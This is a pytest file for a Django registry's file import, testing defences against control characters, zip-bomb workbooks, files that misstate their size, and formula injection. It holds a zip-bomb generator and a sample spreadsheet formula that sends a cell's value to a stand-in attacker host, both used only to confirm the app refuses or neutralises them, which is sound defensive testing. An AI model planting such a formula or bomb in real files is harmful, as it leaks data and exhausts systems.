"""Files made to break the import, or broken by a bad day: control characters, zip bombs, files
that lie about their size (issue #25)."""

import csv
import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from openpyxl import load_workbook

from wirausaha.registry.actions import clean
from wirausaha.registry.errors import ImportRefused
from wirausaha.registry.imports import actions, archive, reading, run, template
from wirausaha.registry.imports.actions import create_import_job, start_import
from wirausaha.registry.imports.queries import error_file
from wirausaha.registry.models import ImportJob, Participant
from wirausaha.registry.tests.imports import support
from wirausaha.registry.tests.imports.support import check, csv_bytes, errors_of, name, row, xlsx_bytes

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def english():
    """Messages are checked in their source language; the pages translate them."""
    with translation.override("en"):
        yield


# Control characters


def test_a_nul_byte_after_the_first_4_kb_is_refused_with_row_and_column_in_the_dry_run_and_at_apply():
    rows = [row(serial) for serial in range(1, 80)]
    rows.append(row(80, nama_lengkap="Siti\x00Rahmawati"))
    data = csv_bytes(*rows)
    assert data.index(b"\x00") > 4096

    checked = check(data)
    applied = check(data, dry_run=False)

    for result in (checked, applied):
        assert not result.file_problem
        assert (result.valid, result.invalid) == (79, 1)
        assert errors_of(result) == [(81, "nama_lengkap")]
        assert "U+0000" in result.errors[0]["message"]
    assert Participant.objects.count() == 79


def test_control_characters_in_an_xlsx_cell_and_a_header_are_handled_alike():
    header = [
        "nik",
        "nama_lengkap\x7f",
        "tanggal_lahir",
        "jenis_kelamin",
        "no_hp",
        "kode_wilayah",
        "tanggal_phk",
    ]
    data = xlsx_bytes(row(1), row(2, no_hp="0812\x9b34567890"), header=header)

    applied = check(data, dry_run=False)

    assert errors_of(applied) == [(3, "no_hp")]
    assert "U+009B" in applied.errors[0]["message"]
    assert applied.valid == 1
    assert Participant.objects.get().full_name == name(1)


# Zip bombs and other oversized files


def bomb(shared_strings_bytes: int) -> bytes:
    """A valid one-row workbook whose sharedStrings.xml also holds one huge, repetitive string:
    a few KB zipped, `shared_strings_bytes` unpacked."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes(row(1))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            target.writestr(member, source.read(member), compress_type=zipfile.ZIP_DEFLATED)
        # openpyxl writes its strings inline; a bomb puts them in the shared strings part.
        huge = b"<si><t>" + b"A" * shared_strings_bytes + b"</t></si>"
        target.writestr("xl/sharedStrings.xml", b'<sst count="1" uniqueCount="1">' + huge + b"</sst>")
    return out.getvalue()


@pytest.fixture
def small_limits(monkeypatch):
    # The real limits (200 MB, 100:1 from 1 MB) scaled down, so the bombs stay small and fast.
    monkeypatch.setattr(archive, "RATIO_FROM_BYTES", 64 * 1024)
    monkeypatch.setattr(archive, "MAX_MEMBER_BYTES", 4 * 1024 * 1024)
    monkeypatch.setattr(archive, "MAX_UNPACKED_BYTES", 6 * 1024 * 1024)


def test_a_workbook_that_unpacks_far_beyond_its_size_is_refused_before_it_is_parsed(
    small_limits, monkeypatch
):
    data = bomb(2 * 1024 * 1024)
    assert len(data) < 20 * 1024

    def never(*args, **kwargs):
        raise AssertionError("openpyxl must not parse a zip bomb")

    monkeypatch.setattr("openpyxl.load_workbook", never)
    result = check(data)

    assert result.file_problem
    assert "unpacks to far more data" in result.errors[0]["message"]


def test_a_workbook_over_the_size_limits_is_refused_even_at_an_ordinary_ratio(small_limits, monkeypatch):
    monkeypatch.setattr(archive, "MAX_RATIO", 10**9)
    monkeypatch.setattr(archive, "MAX_MEMBER_BYTES", 1024 * 1024)

    result = check(bomb(2 * 1024 * 1024))

    assert result.file_problem
    assert "unpacks to far more data" in result.errors[0]["message"]


def test_an_ordinary_workbook_passes_the_archive_limits(small_limits):
    result = check(xlsx_bytes(*(row(serial) for serial in range(1, 30))))

    assert (result.file_problem, result.valid) == (False, 29)


def test_a_bomb_upload_is_refused_before_it_is_stored(small_limits, jabar_officer):
    upload = SimpleUploadedFile("phk.xlsx", bomb(2 * 1024 * 1024))

    with pytest.raises(ImportRefused) as refused:
        create_import_job(upload=upload, dry_run=True, by=jabar_officer)

    assert "unpacks to far more data" in refused.value.errors["file"]
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize("make", [csv_bytes, xlsx_bytes])
def test_rows_columns_and_text_read_are_capped(make, monkeypatch):
    monkeypatch.setattr(reading, "MAX_COLUMNS", 7)
    monkeypatch.setattr(reading, "MAX_CELL_CHARS", 300)
    long_name = "Siti " + "x" * 1000
    result = check(make(row(1, nama_lengkap=long_name), [*row(2), "extra", "cells"]))
    assert errors_of(result) == [(2, "nama_lengkap")]
    assert "now 300" in result.errors[0]["message"]
    assert result.valid == 1

    monkeypatch.setattr(reading, "MAX_ROWS", 3)
    result = check(make(row(1), row(2), row(3)))
    assert result.file_problem
    assert result.errors[0]["row"] == 4


# Files that lie about their size


def lying_dimension(data: bytes, claim: str = "A1:G2") -> bytes:
    """The workbook with its sheet's `<dimension>` edited to claim `claim`."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for member in source.infolist():
            content = source.read(member)
            if member.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{claim}"'.encode(), content)
                assert claim.encode() in content
            target.writestr(member, content)
    return out.getvalue()


def upload_and_start(data: bytes, by, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=False) as callbacks:
        job = create_import_job(upload=SimpleUploadedFile("phk", data), dry_run=True, by=by)
        start_import(job)
    job.refresh_from_db()
    return job, callbacks


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(
            lying_dimension(xlsx_bytes(*(row(serial) for serial in range(1, 31)))), id="xlsx-dimension"
        ),
        pytest.param(
            csv_bytes(*(row(serial) for serial in range(1, 31))).replace(b"\r\n", b"\r"), id="csv-cr-only"
        ),
    ],
)
def test_a_file_longer_than_it_claims_stops_running_in_the_request_and_goes_to_the_worker(
    data, jabar_officer, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(actions, "INLINE_ROWS", 10)
    read = []
    monkeypatch.setattr(run, "clean", lambda given: read.append(given) or clean(given))

    job, callbacks = upload_and_start(data, jabar_officer, django_capture_on_commit_callbacks)

    assert job.status == ImportJob.Status.QUEUED and job.processed_rows == 0
    assert len(read) <= 11  # the request stopped reading right after the limit
    assert len(callbacks) == 1
    callbacks[0]()  # the worker runs the whole file
    job.refresh_from_db()
    assert (job.status, job.total_rows, job.valid) == (ImportJob.Status.CHECKED, 30, 30)


def test_a_cr_only_csv_is_counted_by_its_lines():
    data = csv_bytes(*(row(serial) for serial in range(1, 31))).replace(b"\r\n", b"\r")

    with reading.read_table(io.BytesIO(data)) as table:
        assert table.estimated_rows == 30


def test_a_short_file_still_runs_in_the_request(
    jabar_officer, monkeypatch, django_capture_on_commit_callbacks
):
    monkeypatch.setattr(actions, "INLINE_ROWS", 10)

    job, callbacks = upload_and_start(
        csv_bytes(row(1), row(2)), jabar_officer, django_capture_on_commit_callbacks
    )

    assert (job.status, job.valid, len(callbacks)) == (ImportJob.Status.CHECKED, 2, 0)


# Formulas in the files we write


HOSTILE = '=HYPERLINK("http://evil.example/?x="&C2,"Lihat")'


def test_the_error_file_writes_hostile_headers_and_cells_as_text(jabar_officer):
    header = [*support.HEADER, "@catatan"]
    data = csv_bytes([*row(1, nama_lengkap=HOSTILE, no_hp="12"), "-1+1"], header=header)
    job = create_import_job(upload=SimpleUploadedFile("a.csv", data), dry_run=True, by=jabar_officer)
    run.run_import(job)

    lines = error_file(job).decode("utf-8-sig").splitlines()
    cells = next(csv.reader(lines[1:], delimiter=";"))

    assert lines[0].split(";")[-2] == "'@catatan"
    assert cells[1] == "'" + HOSTILE and cells[-2] == "'-1+1"


def test_the_error_column_is_text_even_when_it_starts_with_a_hostile_header(jabar_officer):
    # "=nik()" is still read as the NIK column: brackets and signs do not count in a header.
    data = csv_bytes(row(1, nik="123"), header=["=nik()", *support.HEADER[1:]])
    job = create_import_job(upload=SimpleUploadedFile("a.csv", data), dry_run=True, by=jabar_officer)
    run.run_import(job)

    lines = error_file(job).decode("utf-8-sig").splitlines()
    cells = next(csv.reader(lines[1:], delimiter=";"))

    assert lines[0].startswith("'=nik();") and cells[-1].startswith("'=nik(): ")


def test_the_templates_write_hostile_headers_and_cells_as_text(monkeypatch):
    monkeypatch.setattr(template, "template_header", lambda name: "=" + name)
    monkeypatch.setattr(template, "_", lambda text: "+" + text)

    assert template.template_csv().decode("utf-8-sig").startswith("'=nik;'=full_name;")
    book = load_workbook(io.BytesIO(template.template_xlsx()))
    data, guide = book.worksheets
    assert data["A1"].value == "'=nik" and data["A1"].data_type == "s"
    values = [cell for cells in guide.iter_rows() for cell in cells if cell.value]
    assert values and all(cell.data_type == "s" for cell in values)
    assert all(not cell.value.startswith(("=", "+")) for cell in values)
